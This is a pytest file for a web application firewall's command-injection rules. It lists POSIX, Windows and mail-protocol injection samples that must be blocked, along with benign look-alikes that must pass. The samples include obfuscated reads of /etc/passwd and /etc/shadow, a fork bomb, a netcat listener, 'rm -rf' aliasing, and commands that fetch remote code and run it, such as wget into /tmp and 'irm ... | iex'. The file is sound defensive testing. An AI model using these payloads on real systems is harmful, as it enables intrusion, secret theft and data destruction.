"""POSIX and Windows command-injection rules (``patterns_cmd.py``): attacks that must block, each
in the rule expected to catch it, and legitimate look-alikes (searches, prose and markdown that
talk about commands) that must pass.

Samples are written for these tests, not taken from the CRS corpus; each attack class appears in
more than one spelling and placement, so a rule aimed at one string would fail here.
"""

from __future__ import annotations

import re
from urllib.parse import quote

import pytest

from assetguard.waf.managed.groups.patterns import chunks
from assetguard.waf.managed.groups.patterns_cmd import C
from assetguard.waf.request import HttpRequest

from .group_helpers import label_of, only, q, req

UNIX, WIN, INJ = "AWSManagedRulesUnixRuleSet", "AWSManagedRulesWindowsRuleSet", "AssetGuardInjectionRuleSet"
GROUPS = (UNIX, WIN, INJ)


def f(value: str, name: str = "note") -> str:
    return f"{name}={quote(value, safe='')}"


U_ARGS = "UNIXShellCommandsVariables_QUERYARGUMENTS"
U_BODY = "UNIXShellCommandsVariables_BODY"
U_HDR = "UNIXShellCommandsVariables_HEADER"
ATTACKS: list[tuple[str, str, HttpRequest]] = [
    # ---- an admin command in command position, whatever quoting splits it
    (UNIX, U_ARGS, req(q("|| hostnamectl"))),
    (UNIX, U_ARGS, req(q("; 'ifc'onfig -a"))),
    (UNIX, U_ARGS, req(q('$(get"ent" passwd)'))),
    (UNIX, U_BODY, req(form=f("cscli decisions add --ip 10.0.0.1"))),
    # a path glued on by a separator CMD_LINE deletes (",/" and ";/" lose the separator, as AWS does)
    (UNIX, U_BODY, req(form=f("example.org;/bin/ca? /et*/passwd"))),
    (UNIX, U_BODY, req(form=f("x,/bin/cat /etc/passwd"))),
    (UNIX, U_BODY, req(form=f("unshare -r"))),
    (UNIX, U_BODY, req(doc={"cmd": "ssh-keyscan internal.example"})),
    (UNIX, U_HDR, req(headers=[["User-Agent", "journalctl -b"]])),
    # ---- a wrapper in front of a command
    (UNIX, U_ARGS, req(q("nohup lsof -i"))),
    (UNIX, U_ARGS, req(q("ionice -c 3 tar cf x /home"))),
    (UNIX, U_BODY, req(doc={"task": "strace -f uname"})),
    # ---- shell-only syntax
    (UNIX, U_ARGS, req(q("$[6*7]"))),
    (UNIX, U_ARGS, req(q("/us[r]/bin/id"))),
    (UNIX, U_ARGS, req(q("/b[a-z]n/ls"))),
    (UNIX, U_ARGS, req(q("w$@get example.org"))),
    (UNIX, U_ARGS, req(q("{,nslookup,example.org}"))),
    (UNIX, U_ARGS, req(q("p{in,}g"))),
    (UNIX, U_ARGS, req(q("~-2"))),
    (UNIX, U_ARGS, req(q("!-3"))),
    (UNIX, U_ARGS, req(q("g(){ g|g& };g"))),
    (UNIX, U_ARGS, req(q("dash,-c,uptime"))),
    (UNIX, U_ARGS, req(q("alias k='rm -rf'"))),
    (UNIX, U_ARGS, req(q("k=ncat;$k -lp 4444"))),
    (UNIX, U_ARGS, req(q("ll /etc/"))),
    (UNIX, U_ARGS, req(q("1;\n.tables"))),
    (UNIX, U_ARGS, req(q("cd /tmp;wget x.example/a"))),
    (UNIX, U_HDR, req(headers=[["Referer", "https://x.example/?v=env --help"]])),
    (UNIX, U_HDR, req(headers=[["X-Api-Note", "set -x"]])),
    # ---- the same ideas inside raw bodies (form fields, XML attributes, whole bodies)
    (UNIX, U_BODY, req(form=f("~+3"))),
    (UNIX, U_BODY, req(form=f("ps | ksh"))),
    (UNIX, U_BODY, req(form=f(";rev<<<'di'|sh"))),
    (UNIX, U_BODY, req(form=f("cat /srv/app/.env"))),
    (UNIX, U_BODY, req(form=f("k(){ k&k|k; };k"))),
    (UNIX, U_BODY, req(xml='<r><v k="!2"/></r>')),
    (UNIX, U_BODY, req(form="find / -perm -4000 -exec ls {} ;")),
    (UNIX, U_BODY, req(form=f("x=/etc;y=shadow;$x$y$z"))),
    # ---- uploads named like shell or server configuration
    (UNIX, "UNIXSensitiveFileUpload_HEADER", req(headers=[["X-Filename", ".bash_profile"]])),
    (UNIX, "UNIXSensitiveFileUpload_HEADER", req(headers=[["X-File-Name", "uploads/web.config "]])),
    (
        UNIX,
        "UNIXSensitiveFileUpload_BODY",
        req(form='--b\r\nContent-Disposition: form-data; name="f"; filename=".npmrc"\r\n\r\nx\r\n--b--'),
    ),
    # ---- Windows: batch conditions, Windows-only commands, PowerShell aliases
    (WIN, "WindowsShellCommands_QUERYARGUMENTS", req(q("if /i %USERNAME%==admin echo yes"))),
    (WIN, "WindowsShellCommands_QUERYARGUMENTS", req(q('@if not "%x%"=="" (goto end)'))),
    (WIN, "WindowsShellCommands_QUERYARGUMENTS", req("/content?a=1&cmdkey%20/list")),
    (WIN, "WindowsShellCommands_BODY", req(form=f("|diskpart /s x.txt"))),
    (WIN, "WindowsShellCommands_COOKIE", req(headers=[["Cookie", "t=& bcdedit /enum"]])),
    (WIN, "WindowsShellCommands_QUERYARGUMENTS", req(q("irm https://x.example/a.ps1 | iex"))),
    # ---- mail protocol commands after CRLF in a body
    (INJ, "MailInjection_BODY", req(form=f("hi\r\nB7 fetch 1:* body[]"))),
    (INJ, "MailInjection_BODY", req(xml='<m t="&#13;&#10;RSET"/>')),
]

# Legitimate requests that share words, characters or shapes with the attacks above.
LEGIT: list[HttpRequest] = [
    req(q("how to use ifconfig on a mac")),
    req(q("time management tips")),
    req(q("nice to meet you")),
    req(q("env variables in docker")),
    req(q("python -m venv")),
    req(q("passwd command linux")),
    req(q("wget vs curl")),
    req(q("kubectl get pods -n default")),
    req(q("approx ~5 minutes")),
    req(q("wow!! great")),
    req(q("$[0].name", "jsonpath")),
    req(q("pages/[slug].tsx", "file")),
    req(q("if x == 1 then")),
    req(q("Q&A: who, what, when")),
    req(q("rock 'n' roll")),
    req(q("config.yml", "template")),
    req(q("uname -a output explained")),
    req(q("ifconfig vs ip addr")),
    req(q("strace tutorial")),
    req(q("sudo apt update")),
    req(q("crontab every 5 minutes")),
    req(q("lsof -i :8080")),
    req(doc={"lang": "bash", "code": "cd /srv/app && git pull\nalias ll='ls -alF'\nmake test\n"}),
    req(doc={"body": "Run `whoami` and `ifconfig` to check the box, then `ls` the folder."}),
    req(doc={"code": "const url = `${base}/items`;\nfetch(url).then((r) => r.json());\n"}),
    req(doc={"code": "if a == b:\n    print('same')\n"}),
    req(doc={"code": "function add(a, b) { return a + b; }\nadd(1, 2);\n"}),
    req(form=f("# Shell tips\n\nUse `nohup` for long jobs.\n\n```bash\nnohup ./build.sh &\n```\n", "body")),
    req(form=f("| tool | use |\n|---|---|\n| python | scripts |\n| sh | glue |\n", "body")),
    req(form=f("<?php\n$a = 1; $b = 2;\necho $a + $b;\n", "code")),
    req(form=f("The price is US$40 (about €37).", "body")),
    req(headers=[["User-Agent", "curl/8.5.0"]]),
    req(headers=[["User-Agent", "python-requests/2.32.3"]]),
    req(headers=[["Referer", "https://app.example.com/content?q=time+management"]]),
    req(headers=[["X-Filename", "holiday-photo.jpg"]]),
    req(form='--b\r\nContent-Disposition: form-data; name="f"; filename="profile.png"\r\n\r\nx\r\n--b--'),
    req(form=f("Dear team,\r\nlist of items attached.\r\nThanks", "message")),
]


@pytest.mark.parametrize(
    ("group", "rule", "request_"), ATTACKS, ids=[f"{r}-{i}" for i, (_, r, _) in enumerate(ATTACKS)]
)
def test_attack_blocks_in_its_rule(group: str, rule: str, request_: HttpRequest) -> None:
    verdict = only(group, counting=True).evaluate(request_)
    assert label_of(group, rule) in verdict.labels, (request_.uri, request_.body, sorted(verdict.labels))
    assert only(group).evaluate(request_).action == "BLOCK"


@pytest.mark.parametrize("request_", LEGIT, ids=[str(i) for i in range(len(LEGIT))])
@pytest.mark.parametrize("group", GROUPS)
def test_look_alike_passes(group: str, request_: HttpRequest) -> None:
    verdict = only(group).evaluate(request_)
    assert verdict.action != "BLOCK", (request_.uri, request_.body, verdict.terminating_rule_id)


@pytest.mark.parametrize("key", sorted(C))
def test_patterns_fit_the_aws_limit_and_compile(key: str) -> None:
    parts = chunks(C[key])
    assert all(len(part) <= 512 for part in parts)
    for part in parts:
        re.compile(part)
